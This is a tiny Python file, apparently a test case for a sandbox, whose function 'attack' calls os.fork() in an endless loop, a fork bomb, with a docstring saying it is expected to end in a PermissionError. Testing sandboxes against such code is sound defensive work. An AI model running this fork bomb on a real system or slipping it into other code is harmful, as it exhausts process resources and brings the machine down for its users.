"""Forks for ever.

Ends: RAISED PermissionError
"""

import os


def attack(facts):
    while True:
        os.fork()
